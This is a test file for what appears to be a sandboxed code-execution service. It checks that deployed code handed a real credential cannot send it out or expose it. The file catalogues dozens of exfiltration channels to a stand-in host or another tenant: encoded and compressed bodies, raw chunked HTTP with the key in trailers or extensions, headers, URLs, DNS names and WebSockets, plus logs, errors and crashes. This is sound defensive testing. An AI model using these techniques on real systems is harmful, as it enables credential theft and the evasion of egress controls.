/** Code that is given real values (`reveal: true`) and sends them elsewhere, or shows them. */
import { afterAll, beforeAll, expect, test } from 'vitest'
import { bound, House } from './house/house.ts'

let house: House
let trigger: string
beforeAll(async () => {
  house = await House.open()
  trigger = await house.deploy({ code: CODE, step: { reveal: true, timeout: '10s' } })
})
afterAll(() => house?.close())

/** Ways that the door and the scrubber promise to know. */
const WAYS: Readonly<Record<string, string>> = {
  'a body': `post(key)`,
  'a body of JSON': `post(JSON.stringify({ a: { b: [key] } }))`,
  'a body in base64': `post(btoa(key))`,
  'a body in base64 that begins within it': `post(btoa('.' + key + '..'))`,
  'a body in hex': `post(Buffer.from(key).toString('hex'))`,
  'a URL-encoded body': `post([...Buffer.from(key)].map((byte) => '%' + byte.toString(16)).join(''))`,
  'a body in base64 of base64': `post(btoa(btoa(key)))`,
  'a body in pieces': `post(ReadableStream.from([...key].map((letter) => Buffer.from(letter))))`,
  'a body in chunks by hand': `raw('POST / HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' + [...key].map((letter) => '1\\r\\n' + letter + '\\r\\n').join('') + '0\\r\\n\\r\\n')`,
  'a packed body': `packed(gzipSync(key))`,
  'a packed body that streams': `packed(ReadableStream.from([gzipSync(key + randomBytes(400_000).toString('hex'))]))`,
  'a body that is packed twice': `packed(gzipSync(gzipSync(key)), 'gzip, gzip')`,
  'a body that is said to be packed': `packed(key)`,
  'a form': `(() => { const form = new FormData(); form.set(key, new Blob([key]), key); return post(form) })()`,
  'a header': `fetch('http://' + elsewhere, { headers: { 'x-key': key } })`,
  'a header’s name': `fetch('http://' + elsewhere, { headers: { [key]: '1' } })`,
  'a header in base64': `fetch('http://' + elsewhere, { headers: { authorization: 'Basic ' + btoa('user:' + key) } })`,
  'a path': `fetch('http://' + elsewhere + '/' + key)`,
  'a query in hex': `fetch('http://' + elsewhere + '/?' + Buffer.from(key).toString('hex'))`,
  'a name and password': `fetch('http://' + key + ':' + key + '@' + elsewhere)`,
  'a method': `raw(key + ' / HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\n\\r\\n')`,
  'a trailer': `raw('POST / HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: x-key\\r\\n\\r\\n0\\r\\nX-Key: ' + key + '\\r\\n\\r\\n')`,
  'a chunk’s extension': `raw('POST / HTTP/1.1\\r\\nHost: ' + elsewhere + '\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;' + key + '\\r\\nx\\r\\n0\\r\\n\\r\\n')`,
  'a reason that is no HTTP': `raw(key + '\\r\\n\\r\\n')`,
  'a host’s name': `fetch('http://' + key + '.example.invalid/')`,
  'a WebSocket': `new Promise((resolve) => { const socket = new WebSocket('ws://' + elsewhere); socket.onopen = () => (socket.send(key), resolve()); socket.onerror = socket.onclose = resolve })`,
  'another tenant': `fetch('http://' + tenant, { method: 'POST', body: key })`,
  'another tenant by its Host header': `raw('POST / HTTP/1.1\\r\\nHost: ' + tenant + '\\r\\nContent-Length: ' + key.length + '\\r\\n\\r\\n' + key)`,
  '$.send': `$.send.http({ method: 'POST', url: 'http://' + elsewhere + '/' + btoa(key), data: { key } })`,
  'its log': `console.log(key, btoa(key), { key })`,
  'an export': `$.export('k', { [key]: [key, btoa(key), Buffer.from(key).toString('hex')] })`,
  'what it returns': `key + btoa(key)`,
  'an error': `Promise.reject(Object.assign(new Error(key), { name: key, stack: key, cause: new Error(btoa(key)), hint: key, code: key }))`,
  'an answer': `$.respond({ status: 200, headers: { 'x-key': key }, body: Buffer.from(key) })`,
  'a summary': `$.export('$summary', 'sent ' + key)`,
  'its standard output': `(process.stdout.write(key + '\\n'), process.stderr.write(btoa(key)))`,
  'a crash': `(process.nextTick(() => { throw new Error(key) }), new Promise((resolve) => setTimeout(resolve, 1000)))`
}

const CODE = bound(
  `const { tenant, elsewhere } = body
  const post = (text) => fetch('http://' + elsewhere, { method: 'POST', body: text, duplex: 'half' })
  const packed = (it, coding = 'gzip') =>
    fetch('http://' + elsewhere, { method: 'POST', headers: { 'content-encoding': coding }, body: it, duplex: 'half' })
  const raw = (bytes) => new Promise((resolve) => {
    const socket = net.connect(Number(elsewhere.split(':')[1]), '127.0.0.1', () => socket.write(bytes, 'latin1'))
    setTimeout(() => socket.destroy(), 300)
    socket.on('error', resolve).on('close', resolve).resume()
  })
  const ways = { ${Object.entries(WAYS)
    .map(([name, way]) => `${JSON.stringify(name)}: async () => (${way})`)
    .join(',\n')} }
  const answer = await ways[body.way]()
  return answer instanceof Response ? answer.status : answer`,
  `import net from 'node:net'
  import { randomBytes } from 'node:crypto'
  import { gzipSync } from 'node:zlib'`
)

test.for(Object.keys(WAYS))('brings no real value out by %s', async (way) => {
  const { tenant, elsewhere } = house
  const { status, body } = await house.call(trigger, { key: house.credential, way, tenant, elsewhere })
  expect([200, 500]).toContain(status)
  expect(JSON.stringify(body)).not.toMatch(/SyntaxError|ReferenceError|is not a function/)
  expect(house.found()).toEqual([])
})

test('keeps none for the next run, which has a process of its own', async () => {
  const code = bound(
    `const kept = globalThis.kept; globalThis.kept = key; return [kept ?? null, [...key].reverse().join('')]`
  )
  const again = await house.deploy({ code, step: { reveal: true } })
  const reversed = (text: string) => text.split('').toReversed().join('')
  expect((await house.call(again, { key: house.credential })).body).toEqual([null, reversed(house.credential)])
  expect((await house.call(again, { key: 'another-0123456789' })).body).toEqual([null, reversed('another-0123456789')])
})

test('although it has them: what it signs is signed with the real value', async () => {
  const code = bound(`return [...key].reverse().join('')`)
  const { body } = await house.attack({ code, step: { reveal: true } })
  expect(String(body).split('').toReversed().join('')).toBe(house.credential)
  await house.judge()
})
